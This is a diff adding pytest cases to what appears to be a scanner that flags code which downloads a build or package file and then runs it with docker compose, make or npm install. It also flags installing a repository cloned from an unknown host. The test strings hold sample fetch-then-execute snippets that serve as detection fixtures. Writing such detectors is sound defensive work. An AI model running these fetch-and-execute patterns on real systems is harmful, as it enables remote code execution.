@@ -139,3 +139,42 @@ def test_what_terraform_fetches_and_runs_is_refused() -> None:
     assert "text-downloaded-execution" in _rules("main.tf", text)
     named = f'data "http" "b" {{ url = "{URL}/b" }}\noutput "b" {{ value = data.http.b.response_body }}\n'
     assert "text-downloaded-execution" not in _rules("main.tf", named)
+
+
+GET = f'requests.get("{URL}/f").text'
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("a.py", f'import requests\nPath("compose.yml").write_text({GET})\nrun(["docker", "compose", "up", "-d"])\n'),
+        ("a.py", f'urllib.request.urlretrieve("{URL}/Makefile", "Makefile")\nsubprocess.run(["make", "all"])\n'),
+        (
+            "a.mjs",
+            f'const t = await (await fetch("{URL}")).text();\nwriteFileSync("package.json", t);\nexecSync("npm i");\n',
+        ),
+    ],
+)
+def test_a_fetched_file_that_a_program_looks_for_is_refused(name: str, text: str) -> None:
+    assert "behaviour-dropped-program" in _rules(name, text)
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        (
+            "a.mjs",
+            f'const site = "{URL}";\nwriteFileSync("package.json", JSON.stringify(own));\nexecSync("npm install");\n',
+        ),
+        ("a.py", f'import requests\nlist = {GET}\nPath("Makefile").write_text(TEMPLATE)\nsubprocess.run(["make"])\n'),
+        ("a.py", f'import requests\nPath("list.json").write_text({GET})\nsubprocess.run(["npm", "install"])\n'),
+    ],
+)
+def test_what_a_program_writes_of_its_own_is_not(name: str, text: str) -> None:
+    assert "behaviour-dropped-program" not in _rules(name, text)
+
+
+def test_a_clone_of_a_stranger_that_a_program_installs_is_refused() -> None:
+    text = 'run(["git", "clone", "https://git.tasks.invalid/x/d.git", d])\nrun(["npm", "install"], cwd=d)\n'
+    assert "undeclared-source" in _rules("a.py", text)
+    assert "undeclared-source" not in _rules("a.py", text.replace('"npm", "install"', '"git", "log"'))
